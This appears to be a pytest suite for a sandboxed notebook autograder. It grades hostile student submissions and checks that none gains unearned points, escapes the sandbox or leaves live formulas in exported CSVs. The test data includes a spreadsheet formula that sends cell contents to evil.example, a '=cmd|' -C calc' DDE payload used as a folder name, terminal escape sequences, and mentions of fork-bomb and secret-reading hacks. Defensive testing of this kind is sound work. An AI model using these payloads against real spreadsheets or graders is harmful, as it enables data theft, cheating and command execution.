"""`microgradlab grade` against real hostile submissions (tests/fixtures/hostile).

One class of ~25 hostile notebooks of 02_value is graded once (module
fixture); each test then checks one row: the hack earns exactly what the
learner honestly earned, the sandbox leaked nothing, and the course tree is
unchanged.
"""

from __future__ import annotations

import hashlib
import re
import socket
import subprocess
import sys
import threading
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parent / "fixtures"))
from hostile import (BOMB_NAME, CALLBACK_FLOOD, COSTLY_CALLBACKS, FULL, NOTEBOOK,  # noqa: E402
                     handed_in, hostiles, only_graded_cells, with_answer, with_cell_before,
                     write_class)
from wrong_answers import load_catalogue  # noqa: E402

from microgradlab_grader import channel, cli, sandbox  # noqa: E402
from microgradlab_grader.report import read_csv  # noqa: E402

ROOT = Path(__file__).resolve().parent.parent
SOLUTIONS = ROOT / "solutions"

pytestmark = [
    pytest.mark.skipif(sandbox.bwrap_path() is None, reason="bwrap is not installed"),
    # One xdist worker takes the whole module (scripts/test.sh uses --dist loadgroup):
    # split over two, each would grade this class in its own `graded` fixture, and one
    # worker's live fork bomb would show up in the other's machine-wide `ps` check.
    pytest.mark.xdist_group("hostile"),
]


def tree_hash(*folders: Path) -> str:
    """One hash over every file's path and bytes (caches left out)."""
    digest = hashlib.sha256()
    for folder in folders:
        for path in sorted(folder.rglob("*")):
            if "__pycache__" in path.parts or not path.is_file():
                continue
            digest.update(str(path).encode())
            digest.update(path.read_bytes())
    return digest.hexdigest()


def bomb_processes() -> list[str]:
    """Processes left over from the fork bomb submission (its children rename themselves)."""
    out = subprocess.run(["ps", "-eo", "pid,comm"], capture_output=True, text=True).stdout
    return [line for line in out.splitlines() if BOMB_NAME in line]


@pytest.fixture(scope="module")
def graded(tmp_path_factory, jupyter_env):
    work = tmp_path_factory.mktemp("hostile")
    # A listening socket on the host: the sandbox must not reach it.
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    connections = []
    threading.Thread(target=lambda: connections.append(server.accept()), daemon=True).start()
    # Secrets the sandbox must not see: the real course files and another learner's work.
    other = work / "class" / "zz-other-student" / f"{NOTEBOOK}.ipynb"
    secrets = {
        "solutions": str(SOLUTIONS / NOTEBOOK / f"{NOTEBOOK}.py"),
        "gradebook": str(ROOT / "autograder" / "nbgrader_config.py"),  # beside gradebook.db
        "other_student": str(other),
        "hidden_tests": str(SOLUTIONS / NOTEBOOK / f"{NOTEBOOK}.ipynb"),
        "canary_in_course": str(ROOT / "autograder" / "escaped" / "canary.txt"),
        "canary_in_tmp": str(work / "escaped-canary.txt"),
        "port": server.getsockname()[1],
    }
    made = write_class(work / "class", SOLUTIONS, secrets)
    other.parent.mkdir(parents=True, exist_ok=True)
    other.write_text((work / "class" / "patch-math" / f"{NOTEBOOK}.ipynb").read_text())
    course = [SOLUTIONS, ROOT / "src", ROOT / "autograder"]
    before = tree_hash(*course)
    out = work / "out"
    status = cli.main(["grade", str(work / "class"), "--out", str(out), "--notebooks", NOTEBOOK,
                       "--workers", "2", "--timeout-cell", "30", "--seed", "7", "--no-progress"])
    after = tree_hash(*course)
    server.close()
    rows = {row["student"]: row for row in read_csv(out / "grades.csv")}
    return {"status": status, "rows": rows, "made": made, "secrets": secrets, "out": out,
            "before": before, "after": after, "connections": connections}


CASES = [h.name for h in hostiles({"solutions": "", "gradebook": "", "other_student": "",
                                   "hidden_tests": "", "canary_in_course": "",
                                   "canary_in_tmp": "", "port": 1})]


@pytest.mark.parametrize("name", CASES)
def test_hack_earns_exactly_the_honest_points(graded, name):
    student = name.replace("_", "-")
    hostile = graded["made"][student]
    row = graded["rows"][student]
    assert row["status"] == hostile.status, (name, row)
    if hostile.status != "graded":  # out of protocol: no score at all, never a forged one
        assert row["score"] == "" and row["ex02_value"] in ("", "0"), (name, row)
        assert bool(row["tampered"]) == hostile.tampered, (name, row["tampered"])
        return
    assert float(row["score"]) == hostile.points, (name, row)
    assert float(row["ex02_value"]) == hostile.points
    assert float(row["max_score"]) == FULL  # points come from the source, never the submission
    assert bool(row["tampered"]) == hostile.tampered, (name, row["tampered"])


def test_the_command_finished_cleanly(graded):
    assert graded["status"] == 0


def test_course_tree_unchanged_and_nothing_escaped(graded):
    assert graded["before"] == graded["after"]
    for key in ("canary_in_course", "canary_in_tmp"):
        assert not Path(graded["secrets"][key]).exists(), key
    assert not graded["connections"], "a sandbox reached the host's network"


def test_no_sandbox_process_survives(graded):
    assert graded["rows"]["fork-bomb"]["status"] == "graded"  # noqa
    assert bomb_processes() == []


def test_feedback_never_shows_what_the_learner_printed(graded):
    html = (graded["out"] / "feedback" / "fake-passed-output" / f"{NOTEBOOK}.html").read_text()
    # Outputs cleared: no output element at all (the stylesheet names the class, so match elements).
    assert not re.search(r'class="[^"]*jp-OutputArea-output', html)
    assert "FAIL" in html


def test_the_secrets_hack_does_work_without_the_sandbox(tmp_path, jupyter_env):
    """The fixture can fail: unsandboxed (--unsafe) the secret-reading hack repairs
    the wrong work and earns the points it must not earn under bwrap."""
    secrets = {"solutions": str(SOLUTIONS / NOTEBOOK / f"{NOTEBOOK}.py"), "gradebook": "/nonexistent",
               "other_student": "/nonexistent", "hidden_tests": "/nonexistent",
               "canary_in_course": "", "canary_in_tmp": "", "port": 1}
    from hostile import build
    hack = next(h for h in hostiles(secrets) if h.name == "read_secrets")
    import nbformat
    path = tmp_path / "class" / "leaky" / f"{NOTEBOOK}.ipynb"
    path.parent.mkdir(parents=True)
    nbformat.write(build(hack, SOLUTIONS), str(path))
    assert cli.main(["grade", str(tmp_path / "class"), "--out", str(tmp_path / "out"),
                     "--notebooks", NOTEBOOK, "--unsafe", "--no-progress", "--seed", "1"]) == 0
    row = read_csv(tmp_path / "out" / "grades.csv")[0]
    assert float(row["score"]) == FULL


def test_protocol_errors_are_named_in_the_report(graded):
    report = (graded["out"] / "report.txt").read_text()
    for student in ("fake-done-on-every-pipe", "fake-reply-right-id", "deep-reply-line"):
        line = next(l for l in report.splitlines() if l.strip().startswith(student))
        assert "protocol_error" in line and "broke the grading protocol" in line, line


def test_a_spec_swapped_in_process_does_forge(repo_root):
    """The control for spec_object_setattr: where the spec is reachable (in the
    learner's own kernel), object.__setattr__ on the frozen spec forges a result."""
    from microgradlab.exercises import get
    spec = get("ex02_value")
    saved = spec.producer
    try:
        object.__setattr__(spec, "producer", lambda case, names: {"values": {"forged": 1.0}})
        assert spec.produce(spec.cases(0)[0], {"Value": object})["values"] == {"forged": 1.0}
    finally:
        object.__setattr__(spec, "producer", saved)


# ---------------------------------------------------------------- the grader's clock
HEARTBEAT = (
    "import sys, time\n"
    "for _ in range(60):  # 30 s, a fake heartbeat on every stream every half second\n"
    "    print('{\"event\": \"cell\", \"index\": 1}'); sys.stdout.flush()\n"
    "    print('{\"event\": \"cell\", \"index\": 1}', file=sys.stderr)\n"
    "    time.sleep(0.5)\n")


def test_a_fake_heartbeat_does_not_keep_a_cell_alive(tmp_path, jupyter_env):
    """A 30 s cell that prints heartbeats is a timeout at the 5 s cell timeout; the
    honest row beside it is untouched."""
    from hostile import Hostile, build

    for student, hostile in (("beating", Hostile("heartbeat", "correct", before_test=HEARTBEAT)),
                             ("honest", Hostile("honest", "correct"))):
        path = tmp_path / "class" / student / f"{NOTEBOOK}.ipynb"
        path.parent.mkdir(parents=True)
        import nbformat
        nbformat.write(build(hostile, SOLUTIONS), str(path))
    assert cli.main(["grade", str(tmp_path / "class"), "--out", str(tmp_path / "out"),
                     "--notebooks", NOTEBOOK, "--timeout-cell", "5", "--no-progress",
                     "--seed", "3"]) == 0
    rows = {r["student"]: r for r in read_csv(tmp_path / "out" / "grades.csv")}
    assert rows["beating"]["status"] == "timeout" and rows["beating"]["score"] == ""
    assert (rows["honest"]["status"], float(rows["honest"]["score"])) == ("graded", FULL)
    report = (tmp_path / "out" / "report.txt").read_text()
    assert "a cell ran longer than 5 s (in cell" in report


# ---------------------------------------------------------------- learner text is data
ON_TIME = "2026-12-01 10:00:00.000000 UTC"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"on time")'
DEADLINE = ["--deadline", "2026-12-01 23:59 UTC", "--late-penalty", "10"]
LONG = "x" * 100
# folder (or flat file) -> (honest?, timestamp.txt text or None)
TEXT_CLASS = {
    "on-time": (True, ON_TIME),
    "two-days-late": (True, "2026-12-03 10:00:00.000000 UTC"),
    "stamp-formula": (True, FORMULA),                       # full marks if read as on time
    "stamp-garbage": (True, "\x1b[2Jyesterday, honest"),
    "stamp-missing": (True, None),
    "=cmd|' -C calc'!A0": (True, ON_TIME),                  # a formula as a folder name
    "ann lee": (True, ON_TIME),                             # ann lee and ann_lee: one slug
    "ann_lee": (False, ON_TIME),
    LONG + "-first": (True, ON_TIME),                       # 100 shared characters
    LONG + "-second": (False, ON_TIME),
    "ctl\nname\x1b]0;pwned\x07\u202e": (True, ON_TIME),     # control characters, a newline
    "smithjane_111_901_02_value.ipynb": (True, None),       # Canvas: two smithjanes
    "smithjane_222_902_02_value.ipynb": (False, None),
    "Jane Smith_101_assignsubmission_file_02_value.ipynb": (True, None),   # Moodle: two
    "Jane Smith_102_assignsubmission_file_02_value.ipynb": (False, None),
    "=1+2_02_value.ipynb": (True, None),                    # a formula in a file name
}
STRAY = "notes\n=SUM(A1)\x1b[31m.txt"                      # a stray file: report.txt only


@pytest.fixture(scope="module")
def text_class(tmp_path_factory, jupyter_env):
    from hostile import correct_notebook, wrong_notebook
    import nbformat
    work = tmp_path_factory.mktemp("learner-text")
    folder = work / "class"
    for name, (honest, stamp) in TEXT_CLASS.items():
        notebook = correct_notebook(SOLUTIONS) if honest else wrong_notebook(SOLUTIONS)
        path = folder / name if name.endswith(".ipynb") else folder / name / f"{NOTEBOOK}.ipynb"
        path.parent.mkdir(parents=True, exist_ok=True)
        nbformat.write(notebook, str(path))
        if stamp is not None:
            (path.parent / "timestamp.txt").write_text(stamp + "\n")
    (folder / STRAY).write_text("not a notebook")
    out = work / "out"
    status = cli.main(["grade", str(folder), "--out", str(out), "--notebooks", NOTEBOOK,
                       "--workers", "2", "--timeout-cell", "30", "--no-progress", *DEADLINE])
    by_name = {r["name"]: r for r in read_csv(out / "grades.csv")}
    return {"status": status, "out": out, "grades": by_name,
            "totals": {r["student"]: r for r in read_csv(out / "totals.csv")}}


def formula_cells(path: Path) -> list[str]:
    """Cells a spreadsheet would run as a formula (a plain number is not one)."""
    import csv
    from microgradlab_grader.untrusted import FORMULA_START
    bad = []
    with open(path, newline="", encoding="utf-8") as handle:
        for row in csv.reader(handle):
            for cell in row:
                if cell.lstrip(" ").startswith(FORMULA_START):
                    try:
                        float(cell)
                    except ValueError:
                        bad.append(cell)
    return bad


def raw_hidden(text: str) -> bool:
    from microgradlab_grader.untrusted import visible
    return any(visible(line) != line for line in text.splitlines())


def test_no_csv_cell_starts_a_formula_or_holds_a_control_character(text_class):
    assert text_class["status"] == 0
    for name in ("grades.csv", "totals.csv", "canvas.csv", "moodle.csv"):
        path = text_class["out"] / name
        assert formula_cells(path) == [], name
        assert not raw_hidden(path.read_text(encoding="utf-8").replace("\r\n", "\n")), name
    grades = text_class["grades"]
    assert "'=cmd|' -C calc'!A0" in grades and grades["'=cmd|' -C calc'!A0"]["score"] == "3"
    assert grades["'=1+2"]["score"] == "3"                  # the file name's student part
    assert grades["stamp-formula"]["timestamp"] == "unknown"


def test_the_formula_cells_are_live_without_csv_cell(text_class, tmp_path, monkeypatch):
    """The control: the same gradebook written with csv_cell taken away holds formulas."""
    from microgradlab_grader import untrusted
    from microgradlab_grader.classrun import regenerate_outputs
    from microgradlab_grader.exports import LatePolicy
    from microgradlab_grader.gradebook import Gradebook, default_url
    monkeypatch.setattr(untrusted, "csv_cell", lambda v: "" if v is None else str(v))
    book = Gradebook(default_url(text_class["out"]))
    regenerate_outputs(book, tmp_path, LatePolicy(), {}, [], quick=True)
    book.close()
    assert any(cell.startswith("=cmd") for cell in formula_cells(tmp_path / "grades.csv"))
    assert any(cell.startswith("=cmd") for cell in formula_cells(tmp_path / "canvas.csv"))


def test_an_unreadable_timestamp_is_never_on_time(text_class):
    grades, totals = text_class["grades"], text_class["totals"]
    by_name = {row["name"]: row for row in totals.values()}
    assert (grades["on-time"]["days_late"], by_name["on-time"]["02_value"]) == ("0", "3")
    assert (grades["two-days-late"]["days_late"], by_name["two-days-late"]["02_value"]) == \
        ("2", "2.4")                                            # 3 - 2 days * 10% of 3
    for name, why in (("stamp-formula", "timestamp.txt is not a time"),
                      ("stamp-garbage", "timestamp.txt is not a time"),
                      ("stamp-missing", "no timestamp.txt")):
        assert grades[name]["score"] == "3" and grades[name]["days_late"] == "unknown"
        assert by_name[name]["02_value"] == "" and by_name[name]["total"] == "", name
        assert f"lateness unknown ({why})" in by_name[name]["notes"]
    canvas = (text_class["out"] / "canvas.csv").read_text()
    moodle = (text_class["out"] / "moodle.csv").read_text()
    assert "stamp-formula,,,stamp-formula,," in canvas and "stamp-formula,stamp-formula,," in moodle
    report = (text_class["out"] / "report.txt").read_text()
    assert "  stamp-formula 02_value: lateness unknown (timestamp.txt is not a time): 3 points" \
        in report


def test_names_that_map_alike_are_different_learners(text_class):
    grades = text_class["grades"]
    pairs = [("ann lee", "ann_lee"), (LONG + "-first", LONG + "-second"),
             ("smithjane", None), ("Jane Smith", None)]
    for honest, wrong in pairs[:2]:
        assert grades[honest]["student"] != grades[wrong]["student"]
        assert (grades[honest]["score"], grades[wrong]["score"]) == ("3", "0")
    rows = read_csv(text_class["out"] / "grades.csv")
    for name in ("smithjane", "Jane Smith"):              # namesakes: two rows each
        scores = sorted(r["score"] for r in rows if r["name"] == name)
        assert scores == ["0", "3"], name
    assert len({r["student"] for r in rows}) == len(rows) == len(TEXT_CLASS)


def test_the_same_wrong_notebook_gets_the_same_row(text_class):
    rows = [r for r in read_csv(text_class["out"] / "grades.csv") if r["score"] == "0"]
    assert len(rows) == 4
    same = [{k: v for k, v in r.items() if k not in ("student", "name", "timestamp",
                                                    "days_late")} for r in rows]
    assert all(row == same[0] for row in same)


def test_control_characters_never_reach_the_report_or_a_page(text_class):
    out = text_class["out"]
    report = (out / "report.txt").read_text(encoding="utf-8")
    assert not raw_hidden(report)
    assert "  notes\\n=SUM(A1)\\x1b[31m.txt" in report
    assert "ctl\\nname\\x1b]0;pwned\\x07\\u202e" in report
    ctl = text_class["grades"]["ctl\\nname\\x1b]0;pwned\\x07\\u202e"]["student"]
    page = (out / "feedback" / ctl / f"{NOTEBOOK}.html").read_text(encoding="utf-8")
    assert "<title>Feedback on 02_value for ctl\\nname\\x1b]0;pwned\\x07\\u202e</title>" in page
    assert "\x1b" not in page and "\u202e" not in page
    formula = text_class["grades"]["'=cmd|' -C calc'!A0"]["student"]
    page = (out / "feedback" / formula / f"{NOTEBOOK}.html").read_text(encoding="utf-8")
    assert "for =cmd|&#x27; -C calc&#x27;!A0</title>" in page


def test_two_names_with_one_id_stop_the_command_before_grading(tmp_path, monkeypatch, capsys):
    from microgradlab_grader.submissions import ids
    for name in ("ann lee", "ann  lee"):
        path = tmp_path / "class" / name / f"{NOTEBOOK}.ipynb"
        path.parent.mkdir(parents=True)
        path.write_text("{}")
    monkeypatch.setattr(ids, "fingerprint", lambda raw: "00000000")   # force a collision
    assert cli.main(["grade", str(tmp_path / "class"), "--out", str(tmp_path / "out"),
                     "--notebooks", NOTEBOOK, "--no-progress"]) == 2
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1 and "'ann lee'" in err and "'ann  lee'" in err
    assert not (tmp_path / "out").exists()                    # nothing was graded

# ---------------------------------------------------------------- one budget per submission
# The grader's work for a submission is the submission's: callbacks it serves and
# replies it decodes are charged to its cell, and requests are capped. Each attack
# wraps honest, correct work, so each control (the defence taken away) scores full.
DERIVATIVES = "01_derivatives"
CHANGED_ARGUMENTS = {  # catalogue entry -> the exercise it must lose in the grader too
    "nb01_descent_mutates_start": "ex01_descent",
    "nb01_gradient_nudges_point_in_place": "ex01_gradient",
    "nb05_neuron_pops_its_inputs": "ex05_neuron",
}


def attack(name: str):
    """(notebook name, notebook) of one attack or catalogue entry of this section."""
    derivatives = handed_in(SOLUTIONS, DERIVATIVES)
    if name == "honest":
        return DERIVATIVES, derivatives
    if name == "callback-flood":
        return DERIVATIVES, with_cell_before(derivatives, "ex01_difference", CALLBACK_FLOOD)
    if name == "costly-callbacks":  # cells that cost nothing, so a small budget is enough
        return DERIVATIVES, with_cell_before(only_graded_cells(derivatives), "ex01_difference",
                                             COSTLY_CALLBACKS)
    entry = next(e for e in load_catalogue() if e.id == name)
    notebook = handed_in(SOLUTIONS, entry.notebook)
    for grade_id, source in entry.cells().items():
        notebook = with_answer(notebook, grade_id, source)
    return entry.notebook, notebook


def grade_attacks(folder: Path, names, timeout_cell: float) -> tuple[dict, str]:
    """Grade one student per attack with `microgradlab grade`: (rows by student, report)."""
    import nbformat

    notebooks = set()
    for name in names:
        notebook_name, notebook = attack(name)
        notebooks.add(notebook_name)
        path = folder / "class" / name / f"{notebook_name}.ipynb"
        path.parent.mkdir(parents=True)
        nbformat.write(notebook, str(path))
    assert cli.main(["grade", str(folder / "class"), "--out", str(folder / "out"),
                     "--notebooks", ",".join(sorted(notebooks)), "--workers", "2",
                     "--timeout-cell", str(timeout_cell), "--seed", "11", "--no-progress"]) == 0
    rows = {}
    for row in read_csv(folder / "out" / "grades.csv"):
        if (folder / "class" / row["student"] / f"{row['notebook']}.ipynb").exists():
            rows[row["student"]] = row
    return rows, (folder / "out" / "report.txt").read_text()


def full_marks(row) -> bool:
    return row["status"] == "graded" and float(row["score"]) == float(row["max_score"])


@pytest.fixture(scope="module")
def budget_class(tmp_path_factory, jupyter_env):
    return grade_attacks(tmp_path_factory.mktemp("budget"), ["honest", *CHANGED_ARGUMENTS],
                         timeout_cell=10)


def test_costly_callbacks_are_charged_and_time_out(tmp_path, jupyter_env):
    """~4.5 s of the grader's CPU, next to no waiting: past the 2.5 s cell budget."""
    rows, report = grade_attacks(tmp_path, ["costly-callbacks"], timeout_cell=2.5)
    row = rows["costly-callbacks"]
    assert (row["status"], row["score"]) == ("timeout", ""), row
    line = next(l for l in report.splitlines() if l.strip().startswith("costly-callbacks"))
    assert "a cell ran longer than 2.5 s (in ex01_difference)" in line, line


@pytest.mark.parametrize("name", sorted(CHANGED_ARGUMENTS))
def test_an_argument_changed_in_place_loses_its_exercise_in_the_grader(budget_class, name):
    """As in the learner's kernel (tests/test_wrong_answers.py), the change to the
    argument is seen: that exercise scores 0, the others of the notebook full marks."""
    row = budget_class[0][name]
    assert row["status"] == "graded", row
    assert float(row[CHANGED_ARGUMENTS[name]]) == 0.0, row
    lost = float(row["max_score"]) - float(row["score"])
    assert lost > 0 and all(float(row[ex]) > 0 for ex in row
                            if ex.startswith("ex") and ex != CHANGED_ARGUMENTS[name]
                            and row[ex] != ""), row


def test_a_callback_flood_stops_at_the_request_cap(tmp_path, jupyter_env):
    rows, report = grade_attacks(tmp_path, ["honest", "callback-flood"], timeout_cell=120)
    row = rows["callback-flood"]
    assert (row["status"], row["score"]) == ("protocol_error", ""), row
    line = next(l for l in report.splitlines() if l.strip().startswith("callback-flood"))
    assert (f"more than {channel.REQUESTS_CASE} requests in one cell or case" in line
            and "ex01_difference" in line), line
    assert full_marks(rows["honest"]), rows["honest"]


def test_control_charging_only_the_waits_costly_callbacks_score(tmp_path, jupyter_env,
                                                                monkeypatch):
    """The clock as it was (the grader's own work free): the same notebook scores."""
    monkeypatch.setattr(channel.Clock, "grader_cpu", lambda self, now=None: 0.0)
    rows, _ = grade_attacks(tmp_path, ["costly-callbacks"], timeout_cell=2.5)
    assert full_marks(rows["costly-callbacks"]), rows["costly-callbacks"]


def test_control_without_the_caps_the_flood_scores(tmp_path, jupyter_env, monkeypatch):
    monkeypatch.setattr(channel, "REQUESTS_CASE", 10**9)
    monkeypatch.setattr(channel, "REQUESTS_NOTEBOOK", 10**9)
    rows, _ = grade_attacks(tmp_path, ["callback-flood"], timeout_cell=120)
    assert full_marks(rows["callback-flood"]), rows["callback-flood"]


def test_control_without_write_back_changed_arguments_score_full(tmp_path, jupyter_env,
                                                                 monkeypatch):
    """Arguments sent as copies whose changes nobody reads: every entry scores full."""
    monkeypatch.setattr(channel.Connection, "write_back", lambda self, shared, states: None)
    rows, _ = grade_attacks(tmp_path, sorted(CHANGED_ARGUMENTS), timeout_cell=10)
    for name in CHANGED_ARGUMENTS:
        assert full_marks(rows[name]), rows[name]


# ------------------------------------------------------------------ borrowed reference code
@pytest.fixture(scope="module")
def borrowed(tmp_path_factory):
    """Each borrower graded in the sandbox, and (control) with --unsafe on the whole
    package: {student: (grade in the sandbox, grade of the control)}."""
    import dataclasses
    import os

    from hostile import write_borrowers

    from microgradlab import checking
    from microgradlab_grader import batch, grading

    work = tmp_path_factory.mktemp("borrowers")
    os.chmod(work, 0o755)
    made = write_borrowers(work / "class", SOLUTIONS)
    notebooks = sorted({b.notebook for b in made.values()})
    plans = batch.make_plans(notebooks, SOLUTIONS, 1, work, checking.expected)
    settings = grading.Settings(timeout_cell=60, timeout_notebook=300)
    grades = {}
    with sandbox.allocate_uids(1) as (uid,):
        for student, borrower in made.items():
            plan = plans[borrower.notebook]
            path = work / "class" / student / f"{borrower.notebook}.ipynb"
            inside = grading.grade_submission(student, borrower.notebook, path, plan, settings,
                                              uid=uid)
            whole = dataclasses.replace(plan, package_copy=sandbox.package_mount_point())
            control = grading.grade_submission(student, borrower.notebook, path, whole,
                                               dataclasses.replace(settings, unsafe=True))
            grades[student] = (inside, control, borrower)
    return grades


def test_borrowed_reference_code_scores_nothing_in_the_sandbox(borrowed):
    wrong = []
    for student, (inside, control, borrower) in borrowed.items():
        if inside.status != "graded" or inside.verdicts[borrower.exercise].points != 0:
            wrong.append((student, "sandbox", inside.status, inside.verdicts[borrower.exercise]))
        # The control: the same notebook, the whole package and every installed package.
        if control.verdicts[borrower.exercise].points <= 0:
            wrong.append((student, "control", control.verdicts[borrower.exercise].message))
    assert wrong == [], wrong
